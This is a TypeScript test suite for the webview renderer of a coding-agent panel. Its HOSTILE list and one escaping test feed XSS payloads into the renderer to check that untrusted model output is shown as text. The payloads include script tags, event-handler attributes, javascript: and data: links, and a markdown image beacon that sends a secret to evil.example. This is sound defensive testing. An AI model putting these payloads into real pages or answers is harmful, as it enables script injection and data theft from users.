import assert from "node:assert/strict";
import { test } from "node:test";
import { AGENT_MODES, PROFILES } from "../src/modes";
import type { PanelState } from "../src/panel/messages";
import type { Turn } from "../src/protocol";
import { renderMarkdown } from "../webview/markdown";
import { renderChanges, renderConversation, renderHeader, renderLive, renderPlan, renderSessions } from "../webview/render";

function state(over: Partial<PanelState> = {}): PanelState {
  return {
    server: "running", status: null, session_id: "s1", turns: [], live: null, plan: null, changes: [], sessions: [],
    modes: AGENT_MODES, profiles: PROFILES, mode: "agent", profile: "auto", context: [], busy: false, error: null, review: null, ...over,
  };
}

const spend = { short: "1.1k tok · $0.0012", text: "1.0k in (800 cached, 200 missed), 100 out · $0.0012", tokens: { cache_hit: 800, cache_miss: 200, output: 100, total: 1100 }, cost: 0.0012, cost_complete: true, currency: "USD", calls: 1, unpriced_calls: 0 };

const answer: Turn = {
  turn_id: "t2", role: "assistant", agent_role: "ask", step_id: null,
  content: "Use:\n\n```python\ndef add(a, b):\n    return a + b\n```\n", reasoning: "The user wants add.",
  model: "deepseek-v4-flash", profile: "fast", tool_calls: [],
  routing: { decision_id: "d1", text: "fast: score 0.10 < 0.72", score: 0.1, threshold: 0.72, profile: "fast", model: "deepseek-v4-flash", escalation: false, contributions: {}, reason_codes: [] },
  spend,
};

test("an answer: markdown with highlighted code, Thinking collapsed, model, why and tokens with cost", () => {
  const html = renderConversation(state({ turns: [answer] }), new Set());
  assert.match(html, /<pre><code class="language-python"><span class="hljs-keyword">def<\/span>/);
  assert.match(html, /<details class="thinking" data-turn="t2"><summary>Thinking<\/summary>/, "collapsed (no open attribute)");
  assert.match(html, /deepseek-v4-flash · fast/);
  assert.match(html, /fast: score 0.10 &lt; 0.72/);
  assert.match(html, /800 cached, 200 missed\), 100 out · \$0.0012/);
  assert.match(renderConversation(state({ turns: [answer] }), new Set(["t2"])), /data-turn="t2" open>/);
});

test("the streamed answer renders as it grows, thinking first", () => {
  const html = renderLive({ session_id: "s1", reasoning: "hmm", content: "# Title\npartial `code", status: [] }, new Set());
  assert.match(html, /streaming…/);
  assert.match(html, /<h1>Title<\/h1>/);
  assert.ok(html.indexOf("Thinking") < html.indexOf("Title"));
});

// Model answers are untrusted: whatever they contain, the panel shows text, never active content.
const HOSTILE = [
  ["script tag", "<script>window.pwned = 1</script>"],
  ["img onerror", '<img src=x onerror="window.pwned=1">'],
  ["svg onload", "<svg onload=alert(1)>"],
  ["javascript link", "[click me](javascript:alert(1))"],
  ["javascript link with entities", "[x](jav&#x61;script:alert(1))"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["markdown image beacon", "![t](https://evil.example/leak?secret=1)"],
  ["iframe", '<iframe src="https://evil.example"></iframe>'],
  ["style tag", "<style>body{display:none}</style>"],
  ["attribute breakout in code info", '```" onmouseover="alert(1)\ncode\n```'],
  ["autolink javascript", "<javascript:alert(1)>"],
];

for (const [name, text] of HOSTILE) {
  test(`never renders active content from a model answer: ${name}`, () => {
    const turn: Turn = { ...answer, content: `Here you go: ${text}`, reasoning: text };
    for (const html of [renderMarkdown(text), renderConversation(state({ turns: [turn] }), new Set(["t2"])),
      renderLive({ session_id: "s1", content: text, reasoning: text, status: [text] }, new Set(["live"]))]) {
      // A real tag starts with a literal "<" (text has it escaped as &lt;).
      assert.doesNotMatch(html, /<(script|img|svg|iframe|style|object|embed)\b/i);
      assert.doesNotMatch(html, /<[a-z][^>]*\son[a-z]+\s*=/i, "no event-handler attribute");
      assert.doesNotMatch(html, /<a\b[^>]*href\s*=\s*["']?\s*(javascript|data|vbscript):/i);
      assert.doesNotMatch(html, /<[a-z][^>]*\ssrc\s*=/i);
    }
  });
}

test("names in the plan, changes and sessions are text, not markup", () => {
  const evil = '<img src=x onerror=alert(1)>"';
  const html = renderPlan(state({ plan: { plan_id: "p", version: 1, goal: evil, steps: [{ step_id: "s", title: evil, files: [evil], status: "pending" }] } })) +
    renderChanges(state({ changes: [{ uri: "file:///ws/a.py", path: evil, hunks: [{ patch_id: "p", hunk_id: "h", uri: "file:///ws/a.py", range: { start: { line: 0, character: 0 }, end: { line: 1, character: 0 } }, old_text: evil + "\n", new_text: "x\n", added: [0], removed_at: 0, status: "pending" }] }] })) +
    renderSessions(state({ sessions: [{ session_id: "s9", state: "Failed", created: "now", prompt: evil, error: evil }] }));
  assert.doesNotMatch(html, /<img/i);
  assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;&quot;/);
});

test("plan checklist: each step with its state and Run / Skip / Revise while it can run", () => {
  const html = renderPlan(state({ plan: { plan_id: "p", version: 2, goal: "Fix add", steps: [
    { step_id: "a", title: "Edit app.py", status: "done" }, { step_id: "b", title: "Add a test", status: "pending" }] } }));
  assert.match(html, /status-done[^]*Step 1: Edit app.py[^]*\[done\]/);
  assert.doesNotMatch(html.split('data-step="b"')[0], /data-action="runStep"/, "a done step has no Run");
  assert.match(html, /data-action="runStep" data-session="s1" data-step="b"/);
  assert.match(html, /data-action="skipStep"/);
  assert.match(html, /data-action="reviseStep"/);
});

test("changes: grouped by file with per-file and per-hunk Accept / Reject and Open all changes", () => {
  const h = (id: string, line: number) => ({ patch_id: "p1", hunk_id: id, uri: "file:///ws/app.py", range: { start: { line, character: 0 }, end: { line: line + 2, character: 0 } }, old_text: "def add(a, b):\n    return a + b\n", new_text: "def add(a, b):\n    return int(a) + int(b)\n", added: [line + 1], removed_at: line + 1, status: "pending" as const });
  const html = renderChanges(state({ changes: [{ uri: "file:///ws/app.py", path: "app.py", hunks: [h("h1", 0), h("h2", 8)] }] }));
  assert.match(html, /data-action="openChanges"/);
  assert.match(html, /data-action="acceptFile" data-uri="file:\/\/\/ws\/app.py"/);
  assert.equal(html.match(/data-action="acceptHunk"/g)?.length, 2);
  assert.match(html, /<span class="ctx">  def add\(a, b\):<\/span>\n<span class="del">-     return a \+ b<\/span>\n<span class="add">\+     return int\(a\) \+ int\(b\)<\/span>/);
  assert.match(html, />line 2</);
});

test("the header shows the context meter, and what fills the context in its tooltip", () => {
  const context = { used: 12345, window: 131072, budget: 120000, percent: 9, parts: { instructions: 2100, plan: 400, context: 4000, conversation: 345, tool_results: 5500 }, shortened: 0, compactions: 1, text: "ctx 12k/131k (9%)" };
  const html = renderHeader(state({ status: { session_id: "s1", state: "ExecutingStep", max_think_active: false, cost: { session: spend, steps: {} }, context } }));
  assert.match(html, /1\.1k tok · \$0\.0012<span class="meter" title="[^"]*"> · ctx 12k\/131k \(9%\)<\/span>/);
  assert.match(html, /title="Context: instructions 2\.1k · plan 0\.4k · context 4\.0k · conversation 0\.3k · tool results 5\.5k of 131k; compacted 1×/);
  assert.doesNotMatch(renderHeader(state({ status: { session_id: "s1", state: "Idle", max_think_active: false, context: null } })), /ctx/);
});
